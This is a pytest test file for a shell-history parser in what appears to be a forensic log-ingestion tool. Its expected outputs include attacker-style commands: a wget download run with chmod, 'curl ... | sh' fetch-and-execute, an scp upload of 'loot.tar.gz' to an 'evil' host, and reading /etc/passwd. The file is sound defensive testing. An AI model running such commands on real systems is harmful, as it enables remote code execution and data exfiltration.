from __future__ import annotations

import io
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.ingest.parsers.conftest import Parsed
from trailguard.ingest.base import ParseContext, Record, Rejected
from trailguard.ingest.parsers.shell_history import ShellHistoryParser, history_name

ParseFn = Callable[..., Parsed]
SniffFn = Callable[..., str | None]


def _text(raw: str | bytes) -> str:
    """A record's raw text (parsers may hand it over as str or as UTF-8 bytes)."""
    return raw if isinstance(raw, str) else raw.decode("utf-8")

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "shell_history"


def _commands(parsed: Parsed) -> list[str]:
    return [record.data["command"] for record in parsed.records]


def test_plain_bash_history(parse: ParseFn) -> None:
    parsed = parse("shell_history", (FIXTURES / "bash_plain.txt").read_bytes(),
                   name="/home/alice/.bash_history")
    assert not parsed.rejected
    assert _commands(parsed) == ["ls -la", "cd /tmp", "wget http://203.0.113.9/x.sh",
                                 "chmod +x x.sh && ./x.sh"]
    assert [r.position for r in parsed.records] == [1, 2, 4, 5]
    assert all(r.time is None and "timestamp" not in r.data for r in parsed.records)
    assert parsed.records[2].normal == {
        "operation": "command", "category": "process",
        "process_cmdline": "wget http://203.0.113.9/x.sh", "actor_user": "alice"}
    assert parsed.records[0].data["shell"] == "bash"


def test_bash_history_with_timestamps_joins_multi_line_commands(parse: ParseFn) -> None:
    parsed = parse("shell_history", (FIXTURES / "bash_timestamps.txt").read_bytes(),
                   name="/root/.bash_history")
    assert not parsed.rejected
    assert _commands(parsed) == ["sudo -i", "for h in web01 web02; do\n  ssh $h uptime\ndone",
                                 "cat /etc/passwd"]
    assert [r.time for r in parsed.records] == [datetime(2024, 3, 1, 10, 0),
                                                datetime(2024, 3, 1, 10, 1),
                                                datetime(2024, 3, 1, 10, 1, 40)]
    assert [r.data["timestamp"] for r in parsed.records] == [1709287200, 1709287260, 1709287300]
    assert _text(parsed.records[0].raw) == "#1709287200\nsudo -i"
    assert parsed.records[0].normal["actor_user"] == "root"


def test_timestamps_after_plain_lines_do_not_join(parse: ParseFn) -> None:
    data = b"id\nwhoami\n#1709287200\nuname -a\nhostname\n"
    parsed = parse("shell_history", data, name=".bash_history")
    assert _commands(parsed) == ["id", "whoami", "uname -a", "hostname"]
    assert [r.data.get("timestamp") for r in parsed.records] == [None, None, 1709287200, None]


def test_zsh_extended_history(parse: ParseFn) -> None:
    parsed = parse("shell_history", (FIXTURES / "zsh_extended.txt").read_bytes(),
                   name="/home/bob/.zsh_history")
    assert not parsed.rejected
    assert _commands(parsed) == ["ls -la", "vim notes.txt", "echo first line\nsecond line",
                                 "echo café σ", "curl -s http://203.0.113.9/x | sh"]
    assert [r.position for r in parsed.records] == [1, 2, 3, 5, 6]
    last = parsed.records[-1]
    assert (last.data["timestamp"], last.data["duration"], last.data["shell"]) == (
        1709287230, 12, "zsh")
    assert last.time == datetime(2024, 3, 1, 10, 0, 30)
    assert _text(last.raw) == ": 1709287230:12;curl -s http://203.0.113.9/x | sh"
    assert _text(parsed.records[2].raw) == ": 1709287210:0;echo first line\\\nsecond line"


def test_fish_history(parse: ParseFn) -> None:
    parsed = parse("shell_history", (FIXTURES / "fish_history.txt").read_bytes(),
                   name="/home/bob/.local/share/fish/fish_history")
    assert not parsed.rejected
    assert _commands(parsed) == ["ls -la", "scp loot.tar.gz evil@203.0.113.9:/srv",
                                 "echo one\ntwo"]
    assert parsed.records[1].data["paths"] == ["loot.tar.gz"]
    assert parsed.records[1].data["timestamp"] == 1709287250
    assert _text(parsed.records[1].raw).count("\n") == 3


def test_nul_filled_tail_is_rejected(parse: ParseFn) -> None:
    parsed = parse("shell_history", b"id\n\x00\x00\x00\x00\nls\n", name=".bash_history")
    assert _commands(parsed) == ["id", "ls"]
    assert [r.position for r in parsed.rejected] == [2]


@pytest.mark.parametrize(("name", "expected"), [
    ("/home/a/.bash_history", (True, "bash")), (".zsh_history", (True, "zsh")),
    ("/root/.histfile", (True, "zsh")), (".ash_history", (True, "ash")),
    ("fish_history", (True, "fish")), (".history", (True, None)),
    (".python_history", (True, None)), ("C:\\x\\.bash_history", (True, "bash")),
    ("history.txt", (False, None)), ("auth.log", (False, None)),
])
def test_history_names(name: str, expected: tuple[bool, str | None]) -> None:
    assert history_name(name) == expected


# --- Sniffing -----------------------------------------------------------------------------------


def test_plain_history_is_claimed_only_by_name(sniff: SniffFn) -> None:
    data = (FIXTURES / "bash_plain.txt").read_bytes()
    assert sniff(data, "/home/alice/.bash_history") == "shell_history"
    assert ShellHistoryParser.sniff(data, "notes.txt") == 0


@pytest.mark.parametrize("name", ["bash_timestamps.txt", "zsh_extended.txt", "fish_history.txt"])
def test_marked_history_is_claimed_by_content(sniff: SniffFn, name: str) -> None:
    assert sniff((FIXTURES / name).read_bytes(), "evidence.txt") == "shell_history"


@pytest.mark.parametrize("sample", [
    b"Mar  1 10:00:00 web01 sshd[1]: Accepted password for a from 192.0.2.1 port 2 ssh2\n",
    b"type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59\n",
    b'{"eventVersion": "1.08", "eventSource": "iam.amazonaws.com"}\n',
    b"#separator \\x09\n#fields\tts\tuid\n1709287200.0\tCabc\n",
    b"ls -la\ncd /tmp\n",
])
def test_other_formats_are_not_claimed(sample: bytes) -> None:
    assert ShellHistoryParser.sniff(sample, "evidence.log") == 0


def test_binary_file_with_history_name_is_not_claimed() -> None:
    assert ShellHistoryParser.sniff(b"\x00\x01\x02binary" * 10, ".bash_history") == 0


# --- Hostile input ------------------------------------------------------------------------------


def _run(data: bytes, name: str = ".zsh_history") -> list[Record | Rejected]:
    return list(ShellHistoryParser().parse(io.BytesIO(data), ParseContext(name)))


def _check(items: list[Record | Rejected]) -> None:
    for item in items:
        assert isinstance(item, Record | Rejected)
        assert item.position > 0


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048), st.sampled_from([".zsh_history", ".bash_history", "fish_history"]))
def test_random_bytes_never_raise(data: bytes, name: str) -> None:
    _check(_run(data, name))


@settings(max_examples=80, deadline=None)
@given(st.lists(st.text(max_size=80), max_size=12),
       st.sampled_from(["", "#1709287200\n", ": 1709287200:0;", "- cmd: ", "  when: 17\n"]))
def test_random_lines_never_raise(lines: list[str], prefix: str) -> None:
    _check(_run("\n".join(prefix + line for line in lines).encode(), ".bash_history"))


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(["bash_timestamps.txt", "zsh_extended.txt", "fish_history.txt"]),
       st.floats(0, 1))
def test_truncated_fixtures_never_raise(name: str, fraction: float) -> None:
    data = (FIXTURES / name).read_bytes()
    items = _run(data[: int(len(data) * fraction)])
    _check(items)
    positions = [item.position for item in items]
    assert len(positions) == len(set(positions))
